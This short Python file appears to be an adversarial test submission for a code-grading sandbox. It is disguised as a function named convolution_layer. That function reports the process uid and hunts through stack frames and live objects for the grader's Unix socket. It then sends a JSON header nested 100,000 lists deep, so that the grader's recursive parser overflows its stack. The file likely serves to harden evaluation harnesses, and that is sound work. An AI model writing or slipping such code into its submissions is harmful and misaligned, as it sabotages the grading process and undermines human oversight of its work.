# Writes a well-framed reply whose JSON header nests 100000 lists deep, then returns normally: a
# trusted json.loads that recurses per level runs out of stack in the grading process.
import os
import struct
import sys


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


def _hostile_socket():
    frame = sys._getframe()
    while frame is not None:
        sock = getattr(frame.f_locals.get("self"), "sock", None)
        if sock is not None and hasattr(sock, "sendall"):
            return sock
        frame = frame.f_back
    import gc
    import socket
    for obj in gc.get_objects():       # not found on the stack: any connected unix stream socket
        if isinstance(obj, socket.socket) and obj.fileno() >= 0 and obj.family == socket.AF_UNIX \
                and obj.type == socket.SOCK_STREAM:
            return obj
    raise RuntimeError("hostile: the worker's socket was not found")


def convolution_layer(input_image, number_of_filters, filter_dimensions=(3, 3), stride=1, padding=0, activation=relu):
    """ATTACK: send a reply header of '[' * 10^5 + ']' * 10^5 before the real reply."""
    _hostile_uid()
    header = b"[" * 100_000 + b"]" * 100_000
    _hostile_socket().sendall(struct.pack("!I", len(header)) + header)
    return None
